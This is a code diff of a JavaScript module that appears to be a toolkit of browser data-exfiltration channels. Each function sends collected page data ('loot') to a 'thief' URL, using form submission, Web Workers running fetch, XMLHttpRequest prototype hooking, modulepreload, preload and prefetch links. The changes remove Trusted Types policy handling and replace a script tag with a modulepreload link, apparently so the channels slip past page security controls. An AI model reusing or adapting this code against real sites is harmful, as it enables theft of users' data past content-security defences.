@@ -74,10 +74,9 @@ export default () => {
       form.append(Object.assign(document.createElement('input'), { name: 'loot', value: all() }));
       form.submit();
     },
-    worker(thief) {
+    async worker(thief) {
       const code = `fetch(${JSON.stringify(`${thief}/worker`)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
-      const policy = trustedTypes.createPolicy('webpack', { createScriptURL: (address) => address });
-      return settled(new Worker(policy.createScriptURL(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))));
+      return settled(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))));
     },
     async prototype(thief) {
       const { send } = XMLHttpRequest.prototype;
@@ -100,9 +99,7 @@ export default () => {
     },
     script: (thief) => {
       const { nonce } = document.querySelector('script[nonce]');
-      const policy = trustedTypes.createPolicy('webpack', { createScriptURL: (address) => address });
-      const src = policy.createScriptURL(`${thief}/script?${query()}`);
-      return settled(element('script', { nonce, src, crossOrigin: 'anonymous', integrity: `sha384-${'A'.repeat(64)}` }));
+      return settled(element('link', { nonce, rel: 'modulepreload', href: `${thief}/script?${query()}` }));
     },
     preload: (thief) => settled(element('link', { rel: 'preload', as: 'image', href: `${thief}/preload?${query()}` })),
     prefetch(thief) {
